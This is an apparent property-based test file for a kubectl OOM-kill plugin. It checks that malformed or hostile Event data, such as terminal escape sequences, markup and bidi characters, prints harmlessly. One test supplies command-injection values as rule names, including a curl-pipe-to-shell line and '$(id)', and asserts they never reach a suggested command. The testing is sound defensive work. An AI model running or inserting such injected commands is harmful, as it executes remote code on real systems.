"""What anybody may have written into an Event: nothing of it breaks the program, the line or the terminal.

In: damaged and hostile Events. Out: lines that are printable.
"""

import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from kubectl_oom import output, table
from kubectl_oom.kill import ANNOTATION, Kill, from_event, from_journal, from_pod
from kubectl_oom.lines import Layout
from kubectl_oom.merge import merged
from kubectl_oom.show import story
from oomeventer.incident.codec import as_json
from oomeventer.incident.events import compose
from plugin import STORIES, Plugin, put, rows
from standin import ApiServer
from standin.event import CORE
from standin.handlers import create_event

NOW = datetime(2026, 11, 22, 9, tzinfo=UTC)
ESCAPES = "\x1b[2J\x1b]0;x\x07 [bold red]x[/] :skull: \u202egnp\u2066 \u200b\r\n\x9b31m \ud800 \u2028"
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.just(ESCAPES) | st.just(10**400),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


def shown(kill: Kill, pod: Any = None) -> str:
    """All that is ever printed of a kill."""
    columns = table.WIDE
    row = table.row(kill, NOW, True, True)
    layouts = [Layout(columns, [row], width, True) for width in (None, 80, 20)]
    lines = [layout.line(row).plain for layout in layouts]
    for width, height in ((100, None), (80, 24), (20, 1)):
        lines += [line.plain for line in story(kill, [kill], pod, NOW, width, height)]
    top, counted = table.top([kill], "image", NOW)
    lines += [Layout(top, counted, None, True).line(one).plain for one in counted]
    lines += ["\n".join(form([kill])) for form in (output.as_json, output.as_yaml, output.as_names)]
    return "\n".join(lines)


def is_harmless(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n"))


def damaged(document: Any, path: list[int], value: Any) -> Any:
    """The same with one value, which the numbers choose, replaced."""
    if not path or not isinstance(document, (dict, list)) or not document:
        return value
    keys: list[Any] = list(document) if isinstance(document, dict) else list(range(len(document)))
    key = keys[path[0] % len(keys)]
    copy: Any = dict(document) if isinstance(document, dict) else list(document)
    copy[key] = damaged(document[key], path[1:], value)
    return copy


@given(st.sampled_from(sorted(STORIES)), st.lists(st.integers(0, 40), min_size=1, max_size=5), VALUES)
def test_an_incident_that_is_damaged_anywhere(name: str, path: list[int], value: Any) -> None:
    incident = damaged(as_json(STORIES[name]), path, value)
    body = compose(STORIES[name]).body
    body["metadata"]["annotations"][ANNOTATION] = json.dumps(incident)
    assert is_harmless(shown(from_event(body, keep=True)))
    if isinstance(incident, dict):
        assert is_harmless(shown(from_journal(incident, keep=True)))


@given(st.sampled_from(sorted(STORIES)), st.lists(st.integers(0, 40), min_size=1, max_size=4), VALUES)
def test_an_event_that_is_damaged_anywhere(name: str, path: list[int], value: Any) -> None:
    event = damaged(compose(STORIES[name]).body, path, value)
    kill = from_event(event, keep=True)
    assert is_harmless(shown(kill))
    assert len(merged([kill, kill])) == 1


@given(VALUES, st.lists(st.integers(0, 40), min_size=1, max_size=6))
def test_a_pod_that_is_damaged_anywhere(value: Any, path: list[int]) -> None:
    ended = {"terminated": {"reason": "OOMKilled", "finishedAt": "2026-11-22T08:20:21Z"}}
    limits = {"limits": {"memory": "64Mi"}}
    pod = damaged(
        {
            "metadata": {"name": "a", "namespace": "b", "ownerReferences": [{"controller": True, "kind": "Job"}]},
            "spec": {"containers": [{"name": "c", "resources": limits}], "resources": limits},
            "status": {"containerStatuses": [{"name": "c", "state": ended, "lastState": ended}]},
        },
        path,
        value,
    )
    kills = list(from_pod(pod))
    assert len(kills) <= 1
    told = from_event(compose(STORIES["leak"]).body, keep=True)
    assert all(is_harmless(shown(kill, pod)) for kill in [*kills, told])


@pytest.mark.parametrize("annotation", ["", "{", "[]", "[" * 100_000, '{"schema": 1}', '{"victims": [1e400]}', ESCAPES])
async def test_events_of_others_are_shown_thin(api: ApiServer, oom: Plugin, annotation: str) -> None:
    """Of another component with the same reason, with an annotation of the same name or none."""
    put(api, "leak")
    body = compose(STORIES["spike"]).body
    body["source"] = {"component": "other", "host": "lab-node"}
    body["metadata"] = {"name": "x", "namespace": "shop", "annotations": {ANNOTATION: annotation}}
    body["message"] = f"killed {ESCAPES}".encode("utf-8", "replace").decode()
    create_event(api, CORE, "shop", body, "other")
    done = await oom("-n", "shop", "-o", "wide", "--no-headers")
    assert (done.status, done.err) == (0, "")
    assert is_harmless(done.out)
    thin = next(line for line in rows(done.out) if line[2] == "thumbs-0")
    assert thin[4:7] == ["not told", "?", "?"]
    assert thin[-2] == "other"
    assert "[bold red]x[/] :skull:" in thin[-1]
    assert (await oom("show", "thumbs-0", "-n", "shop")).status == 0


@pytest.mark.parametrize("rule", ["leak; curl http://a | sh", "$(id)", "--kubeconfig=x", "", None, "Leak"])
@pytest.mark.parametrize("height", [None, 5])
def test_a_rules_name_becomes_no_command(rule: Any, height: int | None) -> None:
    """`kubectl oom explain` is printed with the names of rules, to be run."""
    incident = as_json(STORIES["leak"])
    incident["hints"].append(incident["hints"][0] | {"rule": rule})
    body = compose(STORIES["leak"]).body
    body["metadata"]["annotations"][ANNOTATION] = json.dumps(incident)
    lines = story(from_event(body, keep=True), [], None, NOW, 100, height)
    text = " ".join(" ".join(line.plain for line in lines).split())
    (told,) = text.split("kubectl oom explain ")[1:]
    assert told.startswith("jvm-heap")
    assert not rule or rule not in text


def test_markup_is_never_taken_for_a_style() -> None:
    body = compose(STORIES["leak"]).body | {"message": "[bold red]x[/] [link=http://a]y[/link] :skull:"}
    lines = list(story(from_event(body, keep=True), [], None, NOW, 100))
    console = Console(file=io.StringIO(), force_terminal=True, markup=False, emoji=False, highlight=False)
    with console.capture() as captured:
        for line in lines:
            console.print(line, soft_wrap=True)
    assert "[bold red]x[/] [link=http://a]y[/link] :skull:" in captured.get()
